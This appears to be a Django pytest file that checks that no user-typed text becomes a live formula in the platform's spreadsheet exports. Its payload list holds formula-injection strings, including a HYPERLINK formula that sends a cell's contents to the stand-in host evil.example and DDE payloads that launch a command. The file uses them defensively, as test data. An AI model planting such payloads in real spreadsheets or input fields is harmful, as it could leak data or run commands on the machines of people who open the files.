"""No text a user typed becomes a live formula in a spreadsheet the platform writes (issue 13, item 3).

Enterprises and a park are named with formula payloads; then every URL of the access matrix is opened as a
role allowed to, every export its page offers is followed, and every cell of every .xlsx and .csv that comes
back is scanned. The spreadsheet writers themselves are listed: a new one must be added here (and route its
text through `api.exports.spreadsheet_text`), or the first test fails."""

import csv
import html
import io
import re
from pathlib import Path

import pytest
from django.db import transaction
from django.urls import reverse
from openpyxl import load_workbook

import hrparks
from hrparks.parks.tests.factories import EnterpriseFactory, ParkFactory, SiteFactory

from .access import ROLES, World
from .test_url_access import EXPECTATIONS

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&C2,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
LIVE = re.compile(r"^[=+\-@\t\r]")
SPREADSHEETS = {
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet": "xlsx",
    "text/csv": "csv",
}
# The modules that write spreadsheets, each reached by the walk below.
WRITERS = {"api/exports.py", "documents/roster.py"}
# Documents that are not spreadsheets: rendering them (WeasyPrint, Word) would only slow the walk down.
NOT_SPREADSHEETS = re.compile(r"\.(pdf|docx|zip)(/|$)")


def test_every_spreadsheet_writer_is_known():
    root = Path(hrparks.__file__).parent
    writing = {
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and re.search(r"from openpyxl import .*Workbook|csv\.writer|xlsxwriter", path.read_text())
    }
    assert writing == WRITERS


@pytest.fixture
def world(users, changchun, jilin_city):
    park = ParkFactory(name=PAYLOADS[0], jurisdiction=changchun)
    SiteFactory(park=park)
    users["operator"].parks.add(park)
    for payload in PAYLOADS:
        EnterpriseFactory(park=park, name=payload)
    other_park = ParkFactory(name=PAYLOADS[1], jurisdiction=jilin_city)
    SiteFactory(park=other_park)
    return World(users=users, park=park, other_park=other_park)


def spreadsheet_cells(response, kind: str) -> list[tuple[str, object, str]]:
    """(where, value, data type) of every cell of the file."""
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if kind == "csv":
        text = content.decode("utf-8-sig")
        return [(f"row {n}", value, "s") for n, row in enumerate(csv.reader(io.StringIO(text)), 1) for value in row]
    workbook = load_workbook(io.BytesIO(content))
    return [
        (f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def live_formulas(cells) -> list:
    return [
        (where, value)
        for where, value, data_type in cells
        if data_type == "f" or (isinstance(value, str) and LIVE.match(value))
    ]


def pages(world):
    """(role, URL) of every GET page of the site that is not a rendered document, as a role allowed to open
    it (officials first: they see the most), and the park's own roster workbook (附件 6). Each is opened in
    a transaction of its own, rolled back, as the objects one page makes may clash with another's."""
    preference = ("provincial", "city_bureau", "operator", *ROLES)
    yield "operator", lambda: reverse("documents:attachment", args=["park", world.park.pk, "roster", "xlsx"])
    for expect in EXPECTATIONS:
        if expect.method == "get" and expect.allowed - {"anonymous"}:
            role = next(role for role in preference if role in expect.allowed)
            fresh = World(users=world.users, park=world.park, other_park=world.other_park)
            yield (
                role,
                lambda expect=expect, fresh=fresh: (
                    reverse(expect.url_name, kwargs=expect.kwargs(fresh)) + (f"?{expect.query}" if expect.query else "")
                ),
            )


def downloads(client, url):
    """The response of `url` and, for a page, those of the exports it offers."""
    response = client.get(url)
    yield url, response
    if response.get("Content-Type", "").startswith("text/html"):
        for link in sorted(set(re.findall(r'href="(\?[^"]*export=[^"]*)"', response.content.decode()))):
            export_url = url.split("?")[0] + html.unescape(link)
            yield export_url, client.get(export_url)


def test_no_generated_spreadsheet_holds_a_formula_from_user_text(client, world):
    scanned, neutralised, formulas = [], 0, {}
    for role, make_url in pages(world):
        with transaction.atomic():
            url = make_url()
            if NOT_SPREADSHEETS.search(url):
                transaction.set_rollback(True)
                continue
            client.force_login(world.users[role])
            for address, download in downloads(client, url):
                kind = SPREADSHEETS.get(download.get("Content-Type", "").split(";")[0])
                if kind is None or download.status_code != 200:
                    continue
                cells = spreadsheet_cells(download, kind)
                scanned.append(address)
                neutralised += sum(1 for _, value, _ in cells if isinstance(value, str) and value.startswith("'="))
                if found := live_formulas(cells):
                    formulas[address] = found
            transaction.set_rollback(True)
    assert formulas == {}
    # The walk reached the roster workbooks, the list exports (both formats) and the API's exports …
    assert any("/roster.xlsx" in address for address in scanned)
    assert any("export=xlsx" in address for address in scanned)
    assert any("export=csv" in address for address in scanned)
    assert any(address.startswith("/api/") for address in scanned)
    # … and they held the payloads, kept as text.
    assert neutralised >= len(PAYLOADS)
